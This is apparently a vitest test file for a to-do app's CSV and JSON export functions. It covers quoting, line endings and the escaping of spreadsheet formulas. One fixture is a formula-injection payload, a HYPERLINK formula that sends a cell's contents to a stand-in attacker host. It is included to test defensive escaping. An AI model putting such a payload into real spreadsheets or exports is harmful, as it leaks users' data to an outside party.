import { expect, it } from "vitest";
import type { Task } from "../tasks/task.ts";
import { type TASK_COLUMNS, toCsv, toJson } from "./export-formats.ts";

/** The owner is the same in every row. */
type ExportedMember = Exclude<keyof Task, "user_id">;
const isComplete: ExportedMember extends (typeof TASK_COLUMNS)[number] ? true : false = true;

async function join(chunks: AsyncIterable<string>): Promise<string> {
  let text = "";
  for await (const chunk of chunks) text += chunk;
  return text;
}

const csvOf = (...values: unknown[]) => join(toCsv(["a"], [values.map((a) => ({ a }))]));

it("task has no member without a column", () => {
  expect(isComplete).toBe(true);
});

it("CSV begins with a byte order mark and the names, and lines end with CR LF", async () => {
  expect(await join(toCsv(["id", "title"], [[{ title: "Buy milk", id: 1 }], [], [{ id: 2 }]]))).toBe(
    "\ufeffid,title\r\n1,Buy milk\r\n2,\r\n",
  );
});

it.each([
  ["Buy milk", "Buy milk"],
  ["Zürich 日本 🎈", "Zürich 日本 🎈"],
  ["a,b", '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ["a\nb", '"a\nb"'],
  ["a\r\nb", '"a\r\nb"'],
  [null, ""],
  [undefined, ""],
  [-5, "-5"],
  [true, "true"],
])("value %j is the cell %j", async (value, cell) => {
  expect(await csvOf(value)).toBe(`\ufeffa\r\n${cell}\r\n`);
});

it.each([
  ["=1+1", "'=1+1"],
  ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
  ["+49 30 1234", "'+49 30 1234"],
  ["- milk", "'- milk"],
  ["@ada", "'@ada"],
  ["  =1+1", "'  =1+1"],
  ["\t=1+1", "'\t=1+1"],
  ["\n=1+1", `"'\n=1+1"`],
  ["＝1+1", "'＝1+1"],
])("text %j, which a spreadsheet would compute, is the cell %j", async (value, cell) => {
  expect(await csvOf(value)).toBe(`\ufeffa\r\n${cell}\r\n`);
});

it("formula characters within a text are left as they are", async () => {
  expect(await csvOf("a=b, +1")).toBe('\ufeffa\r\n"a=b, +1"\r\n');
});

it("JSON with members without rows is valid, and ends with the mark that it is whole", async () => {
  const exportedAt = new Date("2026-11-25T10:00:00Z");
  const members: [string, object[][]][] = [
    ["empty", []],
    ["pages", [[], [{ id: 1 }], [], [{ id: 2 }, { id: 3 }]]],
  ];
  const text = await join(toJson({ exportedAt, account: { name: "A</script>\u2028" }, members: members as never }));
  expect(JSON.parse(text)).toEqual({
    format: "todo-export",
    version: 1,
    exported_at: "2026-11-25T10:00:00.000Z",
    account: { name: "A</script>\u2028" },
    empty: [],
    pages: [{ id: 1 }, { id: 2 }, { id: 3 }],
    complete: true,
  });
});
